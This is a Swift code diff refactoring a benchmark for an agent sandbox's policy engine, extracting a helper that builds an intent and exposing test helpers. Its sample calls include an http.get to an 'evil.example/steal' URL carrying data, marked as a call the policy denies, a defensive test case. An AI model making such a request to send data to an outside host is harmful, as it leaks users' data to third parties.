@@ -46,12 +46,7 @@ private struct DecisionBench {
     let calls: [PolicyCall]
 
     init(rules: String, tools: [ToolName: PolicyTool], calls: [PolicyCall]) throws {
-        let text = """
-            {"apiVersion": "agentbox.dev/v1", "kind": "Intent", "name": "bench", "purpose": "Measure a decision.",
-            "principal": "alice@example.com", "expires": "4h", "budget": {"calls": 1000000, "time": "2h"},
-            "rules": [\(rules)]}
-            """
-        intent = try CompiledIntent(try Intent.load(Array(text.utf8), file: "bench.yaml"), tools: tools)
+        intent = try benchIntent("[\(rules)]", tools: tools)
         schemas = tools.mapValues(\.inputSchema)
         self.calls = calls
     }
@@ -95,7 +90,17 @@ private struct DecisionBench {
     }
 }
 
-private func microseconds(_ duration: Duration) -> Double {
+/// An intent with these rules, as JSON.
+func benchIntent(_ rules: String, tools: [ToolName: PolicyTool]) throws -> CompiledIntent {
+    let text = """
+        {"apiVersion": "agentbox.dev/v1", "kind": "Intent", "name": "bench", "purpose": "Measure a decision.",
+        "principal": "alice@example.com", "expires": "4h", "budget": {"calls": 1000000, "time": "2h"},
+        "rules": \(rules)}
+        """
+    return try CompiledIntent(try Intent.load(Array(text.utf8), file: "bench.yaml"), tools: tools)
+}
+
+func microseconds(_ duration: Duration) -> Double {
     Double(duration.components.seconds) * 1e6 + Double(duration.components.attoseconds) / 1e12
 }
 
@@ -111,7 +116,7 @@ private let realisticRules = #"""
     {"deny": "*", "args": {"to": {"each": {"matches": ".*@competitor[.]example"}}}}
     """#
 
-private let writeSchema: JSON = [
+let writeSchema: JSON = [
     "type": "object", "required": ["path", "content"], "additionalProperties": false,
     "properties": [
         "path": ["type": "string", "minLength": 1, "maxLength": 4096],
@@ -160,7 +165,7 @@ private let realisticCalls: [PolicyCall] = [
     benchCall("http.get", ["url": "https://evil.example/steal?data=abc", "tries": 3], denied: true),
 ]
 
-private func benchTools(_ names: [String], schema: JSON) throws -> [ToolName: PolicyTool] {
+func benchTools(_ names: [String], schema: JSON) throws -> [ToolName: PolicyTool] {
     let compiled = try CompiledSchema.compile(schema)
     let manifest = """
         {"apiVersion": "agentbox.dev/v1", "kind": "Tool", "name": "bench", "version": "1.0.0", "description": "A tool.",
@@ -173,7 +178,7 @@ private func benchTools(_ names: [String], schema: JSON) throws -> [ToolName: Po
 }
 
 /// A call with its path resolved. `denied` marks the calls that the intent refuses.
-private func benchCall(_ tool: String, _ arguments: JSON, path: String? = nil, denied: Bool = false) -> PolicyCall {
+func benchCall(_ tool: String, _ arguments: JSON, path: String? = nil, denied: Bool = false) -> PolicyCall {
     guard let name = ToolName(tool) else { preconditionFailure("\(tool) is no tool name") }
     var paths: [[String]: ResolvedPathFact] = [:]
     if let path { paths[["path"]] = .resolved(path) }
